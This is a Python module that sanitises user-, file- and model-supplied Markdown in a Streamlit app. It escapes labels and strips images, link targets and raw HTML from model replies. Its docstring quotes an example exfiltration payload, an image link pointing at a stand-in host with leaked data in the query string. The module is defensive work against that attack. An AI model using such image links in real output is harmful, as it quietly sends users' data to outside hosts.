"""Safe Markdown for text the user, a file, a document or a model supplied.

Streamlit renders Markdown in `st.markdown`, `st.caption`, `st.info`/`st.error`/..., toasts,
expander, button and widget labels, and Markdown images make the browser fetch their URL: a
column named `![m](http://host/x.png)` or a model reply with `![s](http://host/leak?d=...)`
would call out to that host. Two kinds of text, two functions:

- names and labels (columns, datasets, documents, headings, citations) are *text*: `escape_markdown`
  shows every character as typed; `code_span` puts one inside inline code however many backticks
  it holds;
- model replies are *Markdown*: `sanitize_reply` keeps bold, lists, tables and code but no image
  can load, links show their URL, link definitions and raw HTML are shown as text.

Everything here is linear in the input (plain scans and regexes without nested quantifiers).
"""

from __future__ import annotations

import re

_ALWAYS = frozenset("\\`*[]<>|$~&")
_LINE_START = frozenset("#+-=>")
_ZWSP = "\u200b"  # between '!' and '[': the pair no longer opens an image, and shows as written
_LINK = re.compile(r"(?<!\\)(!\u200b)?\[([^\[\]\n]*)\]\(\s*<?([^()\s<>]*)>?"
                   r"(?:[ \t]+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?[ \t]*\)")
_BRACKET = re.compile(r"(?<!\\)([\[\]])")
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
_FENCE_MARKS = ("```", "~~~")
_VERIFY_MAX_CHARS = 20_000  # longer replies are not parsed (~1 s per 100k characters): shown escaped, as text


def escape_markdown(text: object, *, newlines: bool = False) -> str:
    """`text` shown as typed: every character that could start Markdown there is backslash-escaped.

    Always brackets, angle brackets, backticks, emphasis and strike marks, pipes, dollars,
    ampersands and backslashes; an underscore only at a word edge (`sales_2024` stays as is, so
    plain names read unchanged); at the start of a line the marks of headings, lists, quotes and
    rules. Line breaks become spaces (a label is one line) unless `newlines`, where they stay breaks.
    """
    lines = str(text).replace("\r\n", "\n").replace("\r", "\n").split("\n")
    escaped = [_escape_line(line) for line in lines]
    return "  \n".join(escaped) if newlines else " ".join(escaped)


def _escape_line(line: str) -> str:
    out = []
    for i, ch in enumerate(line):
        if ch in _ALWAYS or (ch == "_" and not (_word(line, i - 1) and _word(line, i + 1))):
            out.append("\\" + ch)
        else:
            out.append(ch)
    body = "".join(out)
    stripped = body.lstrip(" ")
    lead = body[:len(body) - len(stripped)]
    digits = len(stripped) - len(stripped.lstrip("0123456789"))
    if stripped[:1] in _LINE_START:
        return f"{lead}\\{stripped}"
    if digits and stripped[digits:digits + 1] in (".", ")"):  # '1. x' would start an ordered list
        return f"{lead}{stripped[:digits]}\\{stripped[digits:]}"
    return body


def _word(text: str, i: int) -> bool:
    return 0 <= i < len(text) and text[i].isalnum()


def code_span(text: object) -> str:
    """`text` as inline code: a backtick fence longer than any run of backticks inside it."""
    body = str(text).replace("\r", " ").replace("\n", " ")
    longest = run = 0
    for ch in body:
        run = run + 1 if ch == "`" else 0
        longest = max(longest, run)
    fence = "`" * (longest + 1)
    pad = " " if body.startswith(("`", " ")) or body.endswith(("`", " ")) else ""
    return f"{fence}{pad}{body}{pad}{fence}" if body else "` `"


def sanitize_reply(text: object) -> str:
    """A model's Markdown reply that cannot load anything: images become their alt text and URL,
    inline links show their URL, link definitions and raw HTML are shown as text; code is kept.

    The rewrite is checked by a CommonMark parse; a reply too long to parse (over _VERIFY_MAX_CHARS)
    is never trusted to the rewrite alone (block structure can pair code marks across paragraphs,
    list items or table cells) and is shown escaped, as plain text, like one that fails the check.
    """
    original = str(text)
    if len(original) > _VERIFY_MAX_CHARS:
        return escape_markdown(original, newlines=True)
    text = original.replace("!" + "[", "!" + _ZWSP + "[")  # everywhere, code too: no image can form
    text = "".join(part if code else _neutralise(part) for code, part in _split_code(text))
    if _loads_nothing(text):
        return text
    return escape_markdown(original, newlines=True)


def _loads_nothing(markdown: str) -> bool:
    """A CommonMark parse of the result holds no image, no raw HTML and no link hiding its target."""
    from markdown_it import MarkdownIt

    for token in MarkdownIt("commonmark").enable("table").parse(markdown):
        for t in [token, *(token.children or [])]:
            if t.type in ("image", "html_inline", "html_block"):
                return False
            if t.type == "link_open" and t.markup not in ("autolink", "linkify"):
                return False
    return True


def _neutralise(prose: str) -> str:
    for _ in range(3):  # nested links ([![i](u)](l)) resolve from the inside out
        changed = _LINK.sub(_show_link, prose)
        if changed == prose:
            break
        prose = changed
    prose = _BRACKET.sub(r"\\\1", prose)  # what is left of [..] cannot be a reference link or definition
    return _TAG.sub("\\<", prose)


def _show_link(match: re.Match[str]) -> str:
    image, label, url = match.group(1), match.group(2), match.group(3)
    label = f"image: {label}" if image else label
    if not url:
        return label
    return f"{label} ({code_span(url)})" if label.strip() else code_span(url)


def _split_code(text: str) -> list[tuple[bool, str]]:
    """The reply cut into (is_code, text) parts: fenced blocks and inline code spans are code."""
    parts: list[tuple[bool, str]] = []
    prose: list[str] = []
    lines = text.split("\n")
    i = 0
    while i < len(lines):
        fence = _fence(lines[i])
        end = _closing(lines, i, fence) if fence else None
        if end is None:
            prose.append(lines[i])
            i += 1
            continue
        parts += _inline_code("\n".join(prose) + "\n" if prose else "")
        parts.append((True, "\n".join(lines[i:end + 1]) + ("\n" if end + 1 < len(lines) else "")))
        prose, i = [], end + 1
    parts += _inline_code("\n".join(prose))
    return [p for p in parts if p[1]]


def _fence(line: str) -> str | None:
    stripped = line.lstrip(" ")
    if len(line) - len(stripped) > 3 or not stripped.startswith(_FENCE_MARKS):
        return None
    mark = stripped[0]
    return mark * (len(stripped) - len(stripped.lstrip(mark)))


def _closing(lines: list[str], start: int, fence: str) -> int | None:
    for j in range(start + 1, len(lines)):
        stripped = lines[j].strip()
        if stripped.startswith(fence) and not stripped.strip(fence[0]):
            return j
    return None


def _inline_code(prose: str) -> list[tuple[bool, str]]:
    """Split prose at inline code spans (a run of n backticks closed by the next run of exactly n)."""
    parts: list[tuple[bool, str]] = []
    runs = _backtick_runs(prose)
    following: list[int | None] = [None] * len(runs)  # the next run of the same size, found in one pass
    seen: dict[int, int] = {}
    for j in range(len(runs) - 1, -1, -1):
        following[j] = seen.get(runs[j][1])
        seen[runs[j][1]] = j
    cursor = i = 0
    while i < len(runs):
        start, size = runs[i]
        close = following[i]
        if close is None:
            i += 1
            continue
        end = runs[close][0] + size
        parts += [(False, prose[cursor:start]), (True, prose[start:end])]
        cursor, i = end, close + 1
    parts.append((False, prose[cursor:]))
    return parts


def _backtick_runs(text: str) -> list[tuple[int, int]]:
    runs: list[tuple[int, int]] = []
    i = 0
    while True:
        start = text.find("`", i)
        if start < 0:
            return runs
        end = start
        while end < len(text) and text[end] == "`":
            end += 1
        runs.append((start, end - start))
        i = end
